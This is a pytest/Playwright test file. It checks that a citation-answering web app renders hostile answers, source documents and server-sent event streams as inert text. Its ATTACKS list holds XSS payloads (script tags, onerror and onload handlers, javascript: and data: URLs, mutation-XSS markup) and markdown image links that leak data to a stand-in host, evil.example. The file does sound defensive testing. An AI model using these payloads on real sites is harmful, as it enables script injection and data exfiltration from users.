"""Whatever an answer, a document or a stream holds: it is shown, and nothing of it runs, loads or leads away."""

from __future__ import annotations

import json

import pytest

ATTACKS = [
    "<script>document.body.dataset.run = 1</script>",
    "<img src=x onerror='document.body.dataset.run = 1'>",
    "![x](https://evil.example/leak?q=1)",
    "![x][1]\n\n[1]: https://evil.example/leak",
    "[press](javascript:document.body.dataset.run=1)",
    "[press](data:text/html,<script>alert(1)</script>)",
    "[press](//evil.example)",
    "<javascript:document.body.dataset.run=1>",
    "<svg onload=document.body.dataset.run=1><style>@import 'https://evil.example/a.css'</style>",
    "<iframe srcdoc='<script>parent.document.body.dataset.run=1</script>'></iframe>",
    "<a href='x' onclick=document.body.dataset.run=1>a</a><form action=https://evil.example><button id=send>",
    "```html\n</code></pre><script>document.body.dataset.run=1</script>\n```",
    "⧼c999⧽ ⧼w0⧽ ⧼s7⧽ ⧼c0⧽",
    "# ⧼⧽⦗⦘⸨⸩⟬⟭⦕⦖ <b>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "\u202e evil \u0000 \u2028 \U0001f600",
    "> " * 200 + "deep",
]


def stream_of(*texts, title="t", quote="q", url=None):
    """A stream that no honest service sends."""
    source = {
        "rank": 1,
        "score": 1.0,
        "scores": {"dense": None, "lexical": None, "fused": 1.0, "rerank": None},
        "passage": {
            "id": "p",
            "document_id": "d",
            "text": quote,
            "start": 0,
            "end": 1,
            "page": None,
            "section": [title],
        },
        "document": {"id": "d", "version": "0" * 64, "title": title, "url": url, "metadata": {title: 1}},
    }
    events = [
        ("meta", {"request_id": "r", "generation": 1, "query_used": title, "guardrail": "verified", "model": "m"}),
        ("sources", {"sources": [source]}),
        ("degraded", {"message": title}),
        ("unheard-of", {"x": 1}),
    ]
    start = 0
    for index, text in enumerate(texts):
        at = max(text.find("[1]"), 0)
        citation = {
            "id": f"c{index}",
            "marker": 1,
            "answer_start": start,
            "answer_end": start + len(text),
            "marker_start": start + at,
            "marker_end": start + at + 3,
            "document_id": "d",
            "document_version": "0" * 64,
            "title": title,
            "url": url,
            "page": None,
            "passage_id": "p",
            "quote": quote,
            "source_start": 0,
            "source_end": 1,
            "support": 1.0,
            "checks": {"known": True, "exact": True, "supported": True},
        }
        body = {"index": index, "text": text, "start": start, "end": start + len(text), "verdict": "supported"}
        events.append(("sentence", {**body, "reason": None, "citations": [citation]}))
        start += len(text)
    done = {
        "request_id": "r",
        "generation": 1,
        "query_used": title,
        "answer": "".join(texts),
        "verdict": "grounded",
        "finish_reason": "stop",
        "abstention": None,
        "sentences": [],
        "citations": [],
        "sources": [],
        "withheld": [],
        "usage": {"provider": title, "model": title, "prompt_tokens": 0, "completion_tokens": 0, "cost_usd": None},
        "stages": [{"name": title, "budget_ms": None, "took_ms": 1.0, "outcome": "ok"}],
        "degraded": [title],
    }
    events.append(("done", done))
    return "".join(f"event: {name}\nid: {at}\ndata: {json.dumps(data)}\n\n" for at, (name, data) in enumerate(events))


def answer_with(page, body):
    page.unroute("**/v1/answer")
    page.route("**/v1/answer", lambda route: route.fulfill(content_type="text/event-stream", body=body))


def harmed(page):
    return page.evaluate(
        """() => ({
            ran: document.body.dataset.run ?? null,
            elements: document.querySelectorAll(
                ".thread :is(script, img, iframe, svg:not(.icon), style, object, form:not(.comment), math)").length,
            handlers: [...document.querySelectorAll(".thread *")]
                .filter((one) => [...one.attributes].some((a) => a.name.startsWith("on"))).length,
            links: [...document.querySelectorAll(".thread a")].map((one) => one.href)
                .filter((one) => !one.startsWith("https://good.example/")),
        })"""
    )


UNHARMED = {"ran": None, "elements": 0, "handlers": 0, "links": []}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_an_answer_runs(open_page, attack):
    watched = open_page()
    answer_with(
        watched.page,
        stream_of("Before. ", attack + "\n", "After [1]. ", title=attack, quote=attack, url="javascript:alert(1)"),
    )
    watched.ask("attack")
    watched.settled()
    if watched.page.locator(".answer .plain").count() == 0:
        watched.page.locator(".marker").last.focus(timeout=2_000)
    watched.page.wait_for_timeout(150)
    assert harmed(watched.page) == UNHARMED
    assert watched.page.locator(".answer").inner_text().strip()


def test_a_link_to_a_source_is_one(open_page):
    watched = open_page()
    answer_with(watched.page, stream_of("See [it](https://good.example/a). ", url="https://good.example/a"))
    watched.ask("link")
    watched.settled()
    link = watched.page.locator(".answer a")
    assert link.get_attribute("href") == "https://good.example/a"
    assert "noopener" in link.get_attribute("rel")
    assert harmed(watched.page) == UNHARMED


def test_a_hostile_document_is_text(open_page):
    watched = open_page()
    watched.ask("hostile")
    watched.settled()
    watched.page.locator(".source", has_text="Hostile").first.click()
    watched.page.locator("#reader mark").wait_for()
    assert "<script>document.title='run'</script>" in watched.page.locator(".document").inner_text()
    assert watched.page.locator(".document script, .document b, .document img").count() == 0
    assert watched.page.title() != "run"


def test_the_policy_lets_no_script_in_however_it_came(open_page):
    watched = open_page()
    page = watched.page
    tried = page.evaluate(
        """() => {
            const tried = [];
            try { document.body.innerHTML += "<b>"; tried.push("markup"); } catch (error) { tried.push(error.name); }
            const inline = document.createElement("script");
            try { inline.text = "document.body.dataset.run = 1"; document.body.append(inline); }
            catch (error) { tried.push(error.name); }
            return tried;
        }"""
    )
    page.wait_for_timeout(100)
    assert tried == ["TypeError", "TypeError"]
    assert page.evaluate("document.body.dataset.run ?? null") is None
    watched.wrong.clear()


def test_a_stream_that_breaks_off_or_is_no_stream_is_told(open_page):
    watched = open_page()
    whole = stream_of("One. ", "Two. ")
    answer_with(watched.page, whole[: whole.index("event: done")])
    watched.ask("cut")
    watched.settled()
    assert "broke off" in watched.page.locator(".problem").inner_text()
    assert watched.page.locator(".sentence").count() == 2
    answer_with(watched.page, "event: meta\ndata: {\n\n")
    watched.ask("odd")
    watched.settled()
    assert "could not be read" in watched.page.locator(".problem").last.inner_text()
